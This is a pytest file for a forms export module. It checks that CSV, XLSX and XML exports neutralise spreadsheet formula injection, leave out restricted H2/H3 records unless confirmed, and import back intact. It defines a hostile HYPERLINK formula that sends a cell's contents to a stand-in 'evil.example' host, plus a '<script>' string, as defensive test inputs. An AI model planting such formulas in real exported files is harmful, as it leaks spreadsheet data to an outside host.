"""Export to csv, xlsx and xml: formula injection neutralised, H2/H3 records left out unless
confirmed, XML valid against the shipped XSD, and every format imports back."""

from __future__ import annotations

import copy
import csv
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from forms.exporting import ExportRecord, export_records, flatten_record, neutralise
from forms.importing import import_file
from forms.registry import get_template
from forms.validation import ValidationContext, validate_record
from tests.forms.conftest import TODAY
from tests.forms.examples import EXAMPLES

CTX = ValidationContext(today=TODAY)
SCHEMA = Path(__file__).resolve().parents[2] / "forms" / "schema" / "cordon-records.xsd"


def record(template_id: str, record_id: str, **changes: Any) -> ExportRecord:
    template = get_template(template_id)
    raw = copy.deepcopy(EXAMPLES[template_id]) | changes
    result = validate_record(template, raw, CTX)
    assert result.ok, result.to_dict()
    return ExportRecord(record_id, template, result.values)


def test_neutralise() -> None:
    for dangerous in ("=1+1", "+33 1 23", "-2", "@SUM(A1)", "\tx", "\rx"):
        assert neutralise(dangerous) == "'" + dangerous
    assert neutralise("plain") == "plain" and neutralise("") == ""


def test_flatten_groups_lists_and_links() -> None:
    flat = flatten_record(
        record("seizure-long", "s1").template, record("seizure-long", "s1").values
    )
    assert flat["commodities.1.quantity"] == 12.4
    assert flat["transit"] == "PAPTY"
    assert flat["persons"] == "person:p-7f3a"
    assert flat["photos"] == "att-0001; att-0002"


EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_csv_neutralises_and_round_trips(tmp_path: Path) -> None:
    records = [record("vehicle", "v1", model=EVIL), record("vehicle", "v2", make="@Scania")]
    out = tmp_path / "vehicles.csv"
    summary = export_records(records, out, "csv")
    assert summary.records == 2 and summary.left_out_restricted == 0
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert rows[0]["model"] == "'" + EVIL
    assert rows[1]["make"] == "'@Scania"
    back = import_file(out, get_template("vehicle"), context=CTX)
    assert back.imported == 2, back.to_dict()
    assert back.records[0].values["model"] == EVIL  # the text itself, never a formula
    assert back.records[1].values["make"] == "@Scania"


def test_xlsx_cells_are_text_never_formulas(tmp_path: Path) -> None:
    out = tmp_path / "export.xlsx"
    export_records(
        [record("vehicle", "v1", model=EVIL), record("person", "p1")],
        out,
        "xlsx",
        include_restricted=True,
    )
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == ["vehicle", "person"]
    ws = wb["vehicle"]
    header = [c.value for c in ws[1]]
    cell = ws.cell(row=2, column=header.index("model") + 1)
    assert cell.data_type == "s" and cell.value == "'" + EVIL
    person = wb["person"]
    pheader = [c.value for c in person[1]]
    phone = person.cell(row=2, column=pheader.index("phones") + 1).value
    assert isinstance(phone, str) and phone.startswith("'+7")
    back = import_file(out, get_template("vehicle"), context=CTX, sheet="vehicle")
    assert back.imported == 1 and back.records[0].values["model"] == EVIL


def test_restricted_records_need_confirmation(tmp_path: Path) -> None:
    records = [
        record("vehicle", "v1"),
        record("vehicle", "v2", handling_code="H2"),
        record("vehicle", "v3", handling_code="H3"),
    ]
    for fmt in ("csv", "xlsx", "xml"):
        out = tmp_path / f"r.{fmt}"
        summary = export_records(records, out, fmt)
        assert (summary.records, summary.left_out_restricted) == (1, 2)
        assert "v2" not in out.read_bytes().decode("latin-1")
        confirmed = export_records(records, out, fmt, include_restricted=True)
        assert (confirmed.records, confirmed.left_out_restricted) == (3, 0)


def test_xml_is_valid_against_the_shipped_schema_and_round_trips(tmp_path: Path) -> None:
    import xmlschema

    out = tmp_path / "records.xml"
    records = [
        record("seizure-long", "s-1", summary="Tom & Jerry <script>"),
        record("person", "p-1"),
        record("container", "c-1"),
    ]
    export_records(records, out, "xml", include_restricted=True)
    schema = xmlschema.XMLSchema(str(SCHEMA))
    schema.validate(str(out))
    back = import_file(out, get_template("person"), context=CTX, import_valid_rows=True)
    person = [r for r in back.records if r.values.get("family_name") == "Иванов"]
    assert person and person[0].values["identity_documents"][0]["issuing_country"] == "RU"
    assert person[0].values == records[1].values
    seizure = import_file(out, get_template("seizure-long"), context=CTX, import_valid_rows=True)
    assert seizure.records[0].values == records[0].values


def test_unknown_format_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ValueError):
        export_records([], tmp_path / "x.pdf", "pdf")
